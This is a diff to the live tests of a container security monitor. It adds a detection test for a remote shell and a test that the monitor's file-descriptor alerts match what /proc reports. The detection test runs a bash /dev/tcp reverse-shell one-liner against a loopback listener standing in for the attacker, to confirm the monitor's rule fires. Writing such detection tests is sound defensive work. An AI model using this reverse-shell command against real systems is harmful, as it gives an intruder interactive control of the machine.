@@ -203,6 +203,14 @@ struct LiveTests {
                        rules: ["BPF program loaded from container"], processName: "python3", parentName: "sh", entrypointGeneration: 1, image: debian),
         AttackScenario(label: "a packet socket", shellCommand: python("import socket; socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0x300)"),
                        rules: ["Packet socket opened in container"], processName: "python3", parentName: "sh", entrypointGeneration: 1, image: debian),
+        // bash's own reverse shell: its child's redirections dup the connected socket onto 0, 1 and
+        // 2, then exec an interactive bash (a listener on the container's loopback stands for the attacker).
+        AttackScenario(label: "a reverse shell", shellCommand: """
+            python3 -c 'import socket
+            s = socket.socket(); s.bind(("127.0.0.1", 4444)); s.listen(1); c, _ = s.accept(); c.close()' & sleep 0.5
+            bash -c 'bash -i >& /dev/tcp/127.0.0.1/4444 0>&1'; wait; sleep 1
+            """, rules: ["Standard streams redirected to a network connection in container"], processName: "bash", parentName: "bash",
+                       entrypointGeneration: 2, image: debian),
     ]
 
     static let debian = "sentinel/debian:bookworm"
@@ -268,6 +276,69 @@ struct LiveTests {
         }
         let counts = Self.recordCounts(sentinel.stderr)
         #expect((counts["call"]?.produced ?? 0) >= 5, "the capture program sent the calls: \(sentinel.stderr.suffix(400))")
+        #expect(sentinel.stop() == 0, "\(sentinel.stderr)")
+    }
+
+    /// What the kernel finds open at a call's descriptor is what /proc says is open there: the
+    /// program prints /proc/self/fd/N (and its working directory) after each call, and the alerts
+    /// must say the same. (Python's os.dup is fcntl(F_DUPFD_CLOEXEC); os.dup2 is dup2.) The
+    /// descriptors are moved to 100 and above first, where Python's own start-up never is.
+    @Test func descriptorsAreDescribedAsProcShowsThem() throws {
+        try #require(LiveEnvironment.problem == nil, "\(LiveEnvironment.problem ?? "")")
+        let sentinel = try LiveSentinel(["--rules", "Tests/sentinelTests/Fixtures/live/descriptors.json"], command: ["-o", "json"])
+        let program = """
+            import os, socket, fcntl
+            def high(fd): return fcntl.fcntl(fd, fcntl.F_DUPFD, 100)
+            def show(call, fd): print(call, fd, os.readlink(f"/proc/self/fd/{fd}"), flush=True)
+            file = high(os.open("/etc/hostname", os.O_RDONLY))
+            copy = os.dup(file); show("fcntl", file)
+            os.dup2(file, 120); show("dup2", file)
+            os.makedirs("/tmp/work", exist_ok=True)
+            directory = high(os.open("/tmp/work", os.O_RDONLY | os.O_DIRECTORY))
+            os.fchdir(directory); show("fchdir", directory); print("cwd", os.getcwd(), flush=True)
+            scratch = high(os.open("notes", os.O_RDWR | os.O_CREAT, 0o600))
+            os.fchmod(scratch, 0o640); show("fchmod", scratch)
+            server = socket.socket(); server.bind(("127.0.0.1", 0)); server.listen(1)
+            client = socket.create_connection(server.getsockname()); peer, _ = server.accept()
+            sock = high(client.fileno()); os.dup(sock); show("fcntl", sock)
+            print("ports", client.getsockname()[1], server.getsockname()[1], flush=True)
+            read, write = os.pipe(); read = high(read); os.dup(read); show("fcntl", read)
+            os.close(copy); os.close(120)
+            os.dup2(copy, 5)
+            """
+        let container = try TestContainer.run("sentinel-live-descriptors", image: Self.debian,
+                                              "python3 -c '\(program.replacingOccurrences(of: "'", with: "'\\''"))'; sleep 1")
+        defer { container.remove() }
+        _ = sentinel.alert("Call on a descriptor", container: container.id, within: 3)
+        let said = try command(["docker", "logs", container.name]).stdout.split(separator: "\n").map { $0.split(separator: " ").map(String.init) }
+        let outputs = sentinel.alerts.filter { ($0["output_fields"] as? [String: Any])?["container.id"] as? String == container.id }
+            .compactMap { $0["output_fields"] as? [String: Any] }
+        func described(_ call: String, _ fd: String) -> [String: Any]? {
+            outputs.first { $0["evt.type"] as? String == call && "\($0["fd.num"] ?? "")" == fd && ($0["evt.rawres"] as? Int ?? -1) >= 0 }
+        }
+        let shown = said.filter { $0.count == 3 && ["fcntl", "dup2", "fchdir", "fchmod"].contains($0[0]) }
+        try #require(shown.count == 6, "the program printed \(said)")
+        let ports = try #require(said.first { $0.first == "ports" })
+        for line in shown {
+            let fields = try #require(described(line[0], line[1]), "no \(line[0]) of fd \(line[1]) in \(outputs)")
+            let proc = line[2]
+            if proc.hasPrefix("socket:") {
+                #expect(fields["fd.type"] as? String == "ipv4" && fields["fd.typechar"] as? String == "4", "\(fields)")
+                #expect(fields["fd.sockfamily"] as? String == "ip" && fields["fd.connected"] as? Bool == true, "\(fields)")
+                #expect("\(fields["fd.lport"] ?? "")" == ports[1] && "\(fields["fd.rport"] ?? "")" == ports[2], "\(fields) \(ports)")
+                #expect(fields["fd.name"] as? String == "127.0.0.1:\(ports[1])->127.0.0.1:\(ports[2])", "\(fields)")
+            } else if proc.hasPrefix("pipe:") {
+                #expect(fields["fd.type"] as? String == "pipe" && fields["fd.typechar"] as? String == "p", "\(fields)")
+            } else {
+                #expect(fields["fd.name"] as? String == proc, "\(line): \(fields)")
+                let directory = line[0] == "fchdir"
+                #expect(fields["fd.type"] as? String == (directory ? "directory" : "file"), "\(fields)")
+            }
+        }
+        #expect(said.contains(["cwd", "/tmp/work"]))
+        // A descriptor closed before the call: the call fails, and nothing is described.
+        let closed = try #require(outputs.first { $0["evt.type"] as? String == "dup2" && ($0["evt.rawres"] as? Int ?? 0) < 0 }, "the refused dup2")
+        #expect(closed["fd.type"] is NSNull && closed["fd.num"] as? Int ?? -1 < 100, "\(closed)")
         #expect(sentinel.stop() == 0, "\(sentinel.stderr)")
     }
 
